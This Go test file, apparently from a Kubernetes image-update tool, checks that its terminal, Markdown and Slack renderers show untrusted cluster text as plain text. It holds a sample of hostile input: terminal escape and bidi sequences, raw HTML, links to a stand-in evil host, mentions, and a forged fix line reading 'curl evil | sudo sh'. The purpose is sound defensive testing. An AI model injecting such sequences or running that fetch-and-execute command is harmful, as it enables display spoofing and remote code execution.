package lab

import (
	"bytes"
	"context"
	"encoding/json"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"github.com/imgupd/imgupd/bot/slacklab"
	"github.com/imgupd/imgupd/fleet"
	"github.com/imgupd/imgupd/internal/testtier"
	"github.com/imgupd/imgupd/internal/textutil"
	"github.com/imgupd/imgupd/model/updater"
	"github.com/imgupd/imgupd/present/blockkit"
	"github.com/imgupd/imgupd/present/render"
	"github.com/imgupd/imgupd/report"
	"github.com/imgupd/imgupd/simulate"
)

// hostileText is what the cluster, a registry, git or a log line may write,
// for each medium something it would act on: for a terminal an OSC 8
// hyperlink, a clear screen, a carriage return that overwrites the line;
// bidi and zero-width characters; for Markdown raw HTML (an image, a second
// </details>), a link, a team mention, bare URLs GitHub links by itself;
// for Markdown and Slack emphasis, strike-through, code and an emoji; and a
// line break that forges a root cause and a fix.
const hostileText = "\x1b]8;;https://evil\x1b\\x\x1b]8;;\x1b\\ \x1b[2J ok\rFORGED \u202eevil \u200bzw " +
	"<img src=x> </details> [click](https://evil) ![i](https://evil/i.png) @org/team #1 https://evil.example www.evil.example " +
	"*bold* _ital_ ~strike~ `code` :fire: x\nRoot cause: fake\nFix: run `curl evil | sudo sh`"

// forged are the starts of the lines hostileText forges; formatted the
// words it formats.
var (
	forged    = []string{"Root cause: fake", "Fix: run"}
	formatted = []string{"bold", "ital", "strike", "code"}
)

// poison appends hostileText to every string the report, summary or where
// answer holds (every field of type string, at any depth), as if the
// cluster had written each: names, titles, details, evidence, fixes'
// summaries and places, steps' words and objects, tags, reasons, log
// lines. A fix step's text (and what it writes) is left alone: it is a
// command rendered by internal/shell, proven by parsing (lab/fixsteps_test).
func poison(v any) {
	var walk func(reflect.Value)
	walk = func(v reflect.Value) {
		switch v.Kind() {
		case reflect.Pointer, reflect.Interface:
			if !v.IsNil() {
				walk(v.Elem())
			}
		case reflect.Struct:
			for i := range v.NumField() {
				f := v.Type().Field(i)
				if !f.IsExported() || v.Type() == reflect.TypeFor[report.Step]() && slices.Contains([]string{"Text", "Context", "Run", "Patch"}, f.Name) ||
					v.Type() == reflect.TypeFor[report.Fix]() && f.Name == "Snippet" {
					continue
				}
				walk(v.Field(i))
			}
		case reflect.Slice, reflect.Array:
			for i := range v.Len() {
				walk(v.Index(i))
			}
		case reflect.String:
			if v.Type() == reflect.TypeFor[string]() && v.CanSet() {
				v.SetString(v.String() + hostileText)
			}
		}
	}
	walk(reflect.ValueOf(v))
}

// deepCopy copies v and everything its exported fields reach (pointers,
// slices, arrays, maps, interfaces), so poison may change the copy only;
// unexported fields are copied as they are (poison does not reach them).
func deepCopy[T any](v T) T {
	var cp func(reflect.Value) reflect.Value
	cp = func(v reflect.Value) reflect.Value {
		switch v.Kind() {
		case reflect.Pointer:
			if v.IsNil() {
				return v
			}
			n := reflect.New(v.Type().Elem())
			n.Elem().Set(cp(v.Elem()))
			return n
		case reflect.Interface:
			if v.IsNil() {
				return v
			}
			n := reflect.New(v.Type()).Elem()
			n.Set(cp(v.Elem()))
			return n
		case reflect.Struct:
			n := reflect.New(v.Type()).Elem()
			n.Set(v)
			for i := range v.NumField() {
				if v.Type().Field(i).IsExported() {
					n.Field(i).Set(cp(v.Field(i)))
				}
			}
			return n
		case reflect.Slice:
			if v.IsNil() {
				return v
			}
			n := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
			for i := range v.Len() {
				n.Index(i).Set(cp(v.Index(i)))
			}
			return n
		case reflect.Array:
			n := reflect.New(v.Type()).Elem()
			for i := range v.Len() {
				n.Index(i).Set(cp(v.Index(i)))
			}
			return n
		case reflect.Map:
			if v.IsNil() {
				return v
			}
			n := reflect.MakeMapWithSize(v.Type(), v.Len())
			for it := v.MapRange(); it.Next(); {
				n.SetMapIndex(it.Key(), cp(it.Value()))
			}
			return n
		}
		return v
	}
	return cp(reflect.ValueOf(v)).Interface().(T)
}

// TestEveryRendererShowsClusterTextAsText: every report, summary and where
// answer — of every built-in scenario as diagnosed, and again with
// hostileText written into every string it holds — through every renderer
// (the terminal's text, Markdown, Slack's Block Kit) shows what the cluster
// wrote as text and acts on none of it:
//
//   - the terminal gets no control character but imgupd's own line breaks:
//     no ESC (so no CSI, OSC or DCS sequence), no CR, no bidi control, no
//     zero-width character; a value's line break is shown (\n), never
//     starts a line;
//   - the Markdown, rendered by a CommonMark/GFM parser (goldmark with
//     GitHub's extensions, raw HTML kept), has no link, image or autolink,
//     no HTML but imgupd's own <details>, no @mention or #reference GitHub
//     would make, no emphasis or code the cluster's text opened, no line it
//     forged;
//   - the Slack message and its thread, read back as Slack shows them
//     (slacklab), are valid (blockkit.Validate: no hidden character either),
//     carry nothing live, no emoji and no formatting from the cluster's text,
//     no line that begins with its text.
//
// Each medium must also show the hostile text (it is not dropped).
func TestEveryRendererShowsClusterTextAsText(t *testing.T) {
	testtier.ContentOnly(t)
	all, err := Builtins()
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var apps []report.AppResult
	t.Run("scenarios", func(t *testing.T) {
		for _, sc := range all {
			t.Run(sc.Name, func(t *testing.T) {
				t.Parallel()
				// The run TestBuiltinScenarios makes (each scenario is
				// diagnosed once per test binary), poisoned in a copy.
				d := diagnoseBuiltin(sc)
				if d.err != nil {
					t.Fatal(d.err)
				}
				r := deepCopy(d.rep)
				checkReportShown(t, r, false)
				poison(r)
				if j, err := json.Marshal(d.rep); err != nil || strings.Contains(string(j), hostileText) {
					t.Fatalf("the poison reached the shared report (%v)", err)
				}
				checkReportShown(t, r, true)
				mu.Lock()
				apps = append(apps, fleet.ResultOf(r, "default"+hostileText))
				mu.Unlock()
			})
		}
	})
	t.Run("summary", func(t *testing.T) {
		s := fleet.Summarize(&fleet.Result{Cluster: "lab" + hostileText, StartedAt: time.Now(), Apps: apps}, nil)
		s.Scope = report.Scope{Names: []string{"web" + hostileText}, Selector: "team=" + hostileText}
		checkSummaryShown(t, s)
	})
	t.Run("where", func(t *testing.T) {
		sc, err := Fleet("where-web")
		if err != nil {
			t.Fatal(err)
		}
		env, err := Start(context.Background(), sc)
		if err != nil {
			t.Fatal(err)
		}
		defer env.Close()
		for _, image := range []string{"team/web:1.2.0", "team/web", "team/nosuch:1.0.0"} {
			q, err := fleet.ParseImageQuery(env.Vars["REGISTRY"] + "/" + image)
			if err != nil {
				t.Fatal(err)
			}
			w, err := (&fleet.Scanner{Engine: env.Engine()}).Where(context.Background(), fleet.Query{}, q)
			if err != nil {
				t.Fatal(err)
			}
			checkWhereShown(t, image, w, false)
			poison(w)
			checkWhereShown(t, image+" poisoned", w, true)
		}
	})
}

// checkReportShown renders a report in every medium and checks each.
func checkReportShown(t *testing.T, r *report.Report, poisoned bool) {
	t.Helper()
	what := "report"
	if poisoned {
		what = "poisoned report"
	}
	var text strings.Builder
	render.Text(&text, r, render.TextOptions{})
	render.Text(&text, r, render.TextOptions{Verbose: true, MaxTags: 1000})
	for _, c := range r.Candidates {
		simulate.WriteText(&text, simulate.Result{Decision: c.Decision, Repository: c.Image, APIURL: c.Image}, simulate.TextOptions{All: true})
	}
	checkTerminalShown(t, what+" text", text.String(), poisoned)
	var md strings.Builder
	render.Markdown(&md, r)
	checkMarkdownShown(t, what+" markdown", md.String(), 1, poisoned)
	p := blockkit.Report(r, blockkit.Options{Buttons: true})
	msgs := append([]blockkit.Message{p.Message}, p.Thread...)
	msgs = append(msgs, blockkit.Tags(r, "")...)
	msgs = append(msgs, blockkit.Logs(r)...)
	checkSlackShown(t, what+" blockkit", msgs, poisoned)
}

func checkSummaryShown(t *testing.T, s report.Summary) {
	t.Helper()
	var text, md strings.Builder
	render.SummaryText(&text, s, render.SummaryOptions{})
	checkTerminalShown(t, "summary text", text.String(), true)
	render.SummaryMarkdown(&md, s)
	checkMarkdownShown(t, "summary markdown", md.String(), 0, true)
	p := blockkit.Summary(s, blockkit.SummaryOptions{Title: "nightly" + hostileText, Buttons: true})
	msgs := append([]blockkit.Message{p.Message}, p.Thread...)
	for _, g := range s.Attention {
		for _, l := range g.Apps {
			a := report.AppResult{App: l.App, State: l.State, Code: l.Code, Stage: l.Stage, Title: l.Title, Answer: l.Answer, Headline: l.Title}
			msgs = append(msgs, blockkit.Alert(report.Transition{App: l.App, From: report.StateUpToDate, To: l.State, Code: l.Code}, a),
				blockkit.Alert(report.Transition{App: l.App, From: l.State, To: report.StateUpToDate}, report.AppResult{App: l.App, State: report.StateUpToDate, Headline: a.Headline}))
		}
	}
	checkSlackShown(t, "summary blockkit", msgs, true)
}

func checkWhereShown(t *testing.T, what string, w *report.Where, poisoned bool) {
	t.Helper()
	var text, md strings.Builder
	render.WhereText(&text, w, render.SummaryOptions{})
	checkTerminalShown(t, what+" where text", text.String(), poisoned)
	render.WhereMarkdown(&md, w, render.SummaryOptions{})
	checkMarkdownShown(t, what+" where markdown", md.String(), 0, poisoned)
	p := blockkit.Where(w)
	checkSlackShown(t, what+" where blockkit", append([]blockkit.Message{p.Message}, p.Thread...), poisoned)
}

// startsForged reports whether a line, without the marks and indents
// imgupd puts before a value, begins with a line hostileText forges.
func startsForged(line string) bool {
	line = strings.TrimLeft(line, " \t·•→-|>*_`")
	for _, f := range forged {
		if strings.HasPrefix(line, f) {
			return true
		}
	}
	return false
}

// checkTerminalShown: only line breaks, no forged line; the hostile text
// shown (escaped) when it is there.
func checkTerminalShown(t *testing.T, what, out string, poisoned bool) {
	t.Helper()
	for i, r := range out {
		if r != '\n' && textutil.IsHidden(r) {
			t.Errorf("%s: %U reaches the terminal: %q", what, r, out[max(0, i-40):min(len(out), i+40)])
			return
		}
	}
	for _, l := range strings.Split(out, "\n") {
		if startsForged(l) {
			t.Errorf("%s: a line the cluster forged: %q", what, l)
		}
	}
	if poisoned && !strings.Contains(out, `\x1b[2J ok\rFORGED \u202eevil \u200bzw`) {
		t.Errorf("%s: the hostile text is not shown as escapes:\n%s", what, out)
	}
}

var (
	// what GitHub makes a mention, a team mention or an issue reference
	// of, in text outside code and links (its mention and reference filters)
	mentionRE = regexp.MustCompile(`(?:^|[^\w/])@[A-Za-z0-9]`)
	issueRE   = regexp.MustCompile(`(?:^|[^\w&/])#[0-9]`)
	// the tags imgupd's Markdown makes (details and summary are imgupd's
	// own HTML: counted)
	markdownTags = []string{"p", "h2", "h3", "strong", "em", "code", "pre", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "br", "details", "summary"}
	blockTags    = []string{"p", "h2", "h3", "li", "td", "th", "pre", "summary", "br", "details"}
)

// checkMarkdownShown renders md as GitHub would parse it and checks what a
// reader gets: the tags imgupd writes only (no a, img, del, input, nor raw
// HTML of the value's: details exactly as many times as imgupd opens it),
// no mention or issue reference, no emphasis or code the hostile text
// opened, no line it forged; the hostile text shown as text.
func checkMarkdownShown(t *testing.T, what, md string, details int, poisoned bool) {
	t.Helper()
	var out bytes.Buffer
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	if err := gm.Convert([]byte(md), &out); err != nil {
		t.Fatal(err)
	}
	z := html.NewTokenizer(bytes.NewReader(out.Bytes()))
	open := map[string]int{}
	var stack []string
	var shown strings.Builder
	lineStart := true
	inCode := func() bool { return slices.Contains(stack, "code") || slices.Contains(stack, "pre") }
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		tok := z.Token()
		switch tt {
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			if !slices.Contains(markdownTags, tok.Data) {
				t.Errorf("%s: GitHub would show <%s> from %q", what, tok.Data, md)
			}
			if tt != html.EndTagToken {
				open[tok.Data]++
				if tt == html.StartTagToken {
					stack = append(stack, tok.Data)
				}
			} else if i := slices.Index(stack, tok.Data); i >= 0 {
				stack = stack[:i]
			} else {
				t.Errorf("%s: </%s> closes nothing", what, tok.Data)
			}
			if slices.Contains(blockTags, tok.Data) {
				lineStart = true
				shown.WriteString("\n")
			}
		case html.CommentToken:
			t.Errorf("%s: raw HTML %q", what, tok.Data)
		case html.TextToken:
			text := tok.Data
			for i, l := range strings.Split(text, "\n") {
				if (i > 0 || lineStart) && startsForged(l) {
					t.Errorf("%s: a line the cluster forged: %q", what, l)
				}
			}
			if len(stack) > 0 {
				switch top := stack[len(stack)-1]; {
				case slices.Contains(formatted, text) && slices.Contains([]string{"em", "strong", "code", "del"}, top):
					t.Errorf("%s: the cluster's text made <%s>%s</%s>", what, top, text, top)
				}
			}
			if !inCode() {
				if m := mentionRE.FindString(text); m != "" {
					t.Errorf("%s: GitHub would make a mention of %q in %q", what, m, text)
				}
				if m := issueRE.FindString(text); m != "" {
					t.Errorf("%s: GitHub would make an issue reference of %q in %q", what, m, text)
				}
			}
			lineStart = strings.HasSuffix(text, "\n")
			shown.WriteString(text)
		}
	}
	if open["details"] != details || open["summary"] != details {
		t.Errorf("%s: %d <details> and %d <summary>, want %d: the cluster's text opened or closed one\n%s", what, open["details"], open["summary"], details, out.String())
	}
	if poisoned && !strings.Contains(shown.String(), "<img src=x> </details> [click](https://evil) ![i](https://evil/i.png) @"+render.WordJoiner+"org/team") {
		t.Errorf("%s: the hostile text is not shown as written:\n%s", what, shown.String())
	}
}

// ownMarks are the emoji the bot writes itself.
var ownMarks = []string{":x:", ":warning:", ":information_source:", ":white_check_mark:",
	":black_right_pointing_double_triangle_with_vertical_bar:", ":grey_question:", ":no_entry:",
	":hourglass_flowing_sand:", ":hourglass:", ":boom:", ":rotating_light:"}

// checkSlackShown: each message is valid (blockkit.Validate, hidden
// characters included) and, read back as Slack shows it, carries nothing
// live, no emoji but the bot's own marks, no formatting the hostile text
// made, no line it forged, no hidden character; the hostile text shown.
func checkSlackShown(t *testing.T, what string, msgs []blockkit.Message, poisoned bool) {
	t.Helper()
	var all strings.Builder
	for i, m := range msgs {
		for _, err := range blockkit.Validate(blockkit.Payload{Message: m}) {
			t.Errorf("%s message %d: %v", what, i, err)
		}
		data, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		sh, err := slacklab.ShowMessage(data)
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range sh.Live {
			t.Errorf("%s message %d: live %s", what, i, l)
		}
		for _, e := range sh.Emoji {
			if !slices.Contains(ownMarks, e) {
				t.Errorf("%s message %d: emoji %s", what, i, e)
			}
		}
		for _, f := range sh.Formats {
			if slices.Contains(formatted, f.Text) {
				t.Errorf("%s message %d: the cluster's text is formatted: %s", what, i, f)
			}
		}
		texts := []string{sh.Text}
		for _, x := range sh.Texts {
			texts = append(texts, x.Shown)
			texts = append(texts, x.Code...)
		}
		for _, x := range texts {
			for _, l := range strings.Split(x, "\n") {
				if startsForged(l) {
					t.Errorf("%s message %d: a line the cluster forged: %q", what, i, l)
				}
			}
			for _, r := range x {
				if r != '\n' && textutil.IsHidden(r) {
					t.Errorf("%s message %d: %U is shown raw in %q", what, i, r, x)
					break
				}
			}
			all.WriteString(x + "\n")
		}
	}
	if poisoned && !strings.Contains(all.String(), "<img src=x> </details>") {
		t.Errorf("%s: the hostile text is not shown:\n%s", what, all.String())
	}
}

// TestPoisonReachesEveryString: the poison writes into the fields the
// renderers read (so that the test above cannot pass on a report it did
// not change), and leaves fix steps' text alone.
func TestPoisonReachesEveryString(t *testing.T) {
	r := &report.Report{App: report.AppRef{Namespace: "ns", Name: "app"}, Answer: "a",
		RootCause: &report.Finding{Title: "t", Evidence: []report.Evidence{{Label: "l", Value: "v"}},
			Fix: &report.Fix{Summary: "s", Steps: []report.Step{{Say: "say", Text: "kubectl get pods", Object: "o"}}}},
		Candidates: []report.CandidateTable{{Alias: "web", Decision: updater.Decision{Tags: []updater.TagFate{{Tag: "1.0.0", Why: "w"}}}}}}
	poison(r)
	for _, s := range []string{r.App.Name, r.Answer, r.RootCause.Title, r.RootCause.Evidence[0].Value, r.RootCause.Fix.Summary,
		r.RootCause.Fix.Steps[0].Say, r.RootCause.Fix.Steps[0].Object, r.Candidates[0].Decision.Tags[0].Tag} {
		if !strings.HasSuffix(s, hostileText) {
			t.Errorf("%q is not poisoned", s)
		}
	}
	if r.RootCause.Fix.Steps[0].Text != "kubectl get pods" {
		t.Errorf("the step's text was changed: %q", r.RootCause.Fix.Steps[0].Text)
	}
}
